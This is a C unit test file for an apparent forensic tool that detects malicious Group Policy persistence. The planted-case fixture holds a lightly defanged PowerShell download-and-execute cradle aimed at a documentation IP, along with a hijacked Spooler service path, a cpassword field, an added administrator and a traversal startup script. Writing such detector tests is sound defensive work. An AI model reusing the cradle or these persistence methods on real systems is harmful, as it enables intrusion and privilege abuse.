#include "files_bench.h"

#define HISTORY "ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/"
#define LOCAL "Windows/System32/GroupPolicy/Machine/Scripts/"

#define TASK_V2(name, command, arguments) "<ImmediateTaskV2 clsid=\"{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}\" name=\"" name "\" changed=\"2021-03-03 04:20:00\"><Properties action=\"C\" name=\"" name \
    "\" runAs=\"NT AUTHORITY\\System\"><Task version=\"1.3\"><Actions Context=\"Author\"><Exec><Command>" command "</Command><Arguments>" arguments "</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2>"
#define TASK_V1(name, command, arguments) "<Task clsid=\"{2DEECB1C-261F-4e13-9B21-16FB83BC03BD}\" name=\"" name "\"><Properties action=\"U\" name=\"" name "\" appName=\"" command "\" args=\"" arguments "\" /></Task>"

static void test_planted(void **state)
{
    struct bench *b = *state;

    bench_text(b, HISTORY "ScheduledTasks/ScheduledTasks.xml", "<?xml version=\"1.0\" encoding=\"utf-8\"?><ScheduledTasks>"
               TASK_V2("Brew", "C:\\Users\\Public\\brew.exe", "-k") TASK_V1("Steep", "powers@hell.exe", "-nop -w hidden -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.23/e')")
               TASK_V2("Inventory", "C:\\Program Files\\Vendor\\inventory.exe", "/s") "</ScheduledTasks>");
    bench_text(b, HISTORY "Services/Services.xml", "<NTServices><NTService name=\"Spooler\"><Properties serviceName=\"Spooler\" program=\"C:\\PerfLogs\\s.exe\" /></NTService></NTServices>");
    bench_text(b, HISTORY "Groups/Groups.xml", "<Groups><User name=\"helper\"><Properties userName=\"helper\" cpassword=\"bm90aGluZyBoZXJl\" /></User><Group name=\"Administrators (built-in)\">"
               "<Properties groupSid=\"S-1-5-32-544\" groupName=\"Administrators (built-in)\"><Members><Member name=\"BAKERY\\ben\" action=\"ADD\" sid=\"S-1-5-21-1\" /></Members></Properties></Group></Groups>");
    bench_text(b, LOCAL "scripts.ini", "\r\n[Startup]\r\n0CmdLine=C:\\Windows\\Temp\\..\\..\\Users\\Public\\start.cmd\r\n0Parameters=\r\n1CmdLine=backup.cmd\r\n1Parameters=/q\r\n");
    bench_hunt(b);
    static const struct { const char *name, *what; } want[] = { { "Brew", "scheduled_task" }, { "Steep", "scheduled_task" }, { "Spooler", "service" }, { "Startup", "logon_script" } };
    for (size_t i = 0; i < sizeof want / sizeof *want; i++) {
        const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/policy", want[i].name);
        CHECK_WHY(f && str_eq(f->what, str_c(want[i].what)) && f->cite.line && f->why.n, want[i].name);
    }
    CHECK(bench_accused(b) == 4 && bench_find(b, FILE_FACT_NOTE, "files/policy-setting", "helper") && bench_find(b, FILE_FACT_NOTE, "files/policy-setting", "BAKERY\\ben"));
    CHECK(!bench_find(b, FILE_FACT_NOTE, "files/policy", "Inventory"));
    bench_faults(b);
}

static void test_honest(void **state)
{
    struct bench *b = *state;

    bench_text(b, HISTORY "ScheduledTasks/ScheduledTasks.xml", "<ScheduledTasks>" TASK_V2("Inventory", "\\\\bakery.example\\netlogon\\inventory.exe", "/s")
               TASK_V2("Update", "C:\\Windows\\System32\\gpupdate.exe", "/force") TASK_V1("Clean", "%SystemRoot%\\System32\\cmd.exe", "/c del C:\\Logs\\*.log") "</ScheduledTasks>");
    bench_text(b, LOCAL "scripts.ini", "[Startup]\r\n0CmdLine=\\\\bakery.example\\netlogon\\start.cmd\r\n0Parameters=\r\n[Shutdown]\r\n");
    bench_text(b, LOCAL "psscripts.ini", "\r\n[ScriptsConfig]\r\nStartExecutePSFirst=true\r\n[Startup]\r\n0CmdLine=map.ps1\r\n0Parameters=\r\n");
    bench_text(b, HISTORY "Groups/Groups.xml", "<Groups");
    bench_text(b, HISTORY "Drives/Drives.xml", "");
    bench_hunt(b);
    CHECK(bench_accused(b) == 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = { BENCH_TEST(test_planted), BENCH_TEST(test_honest) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
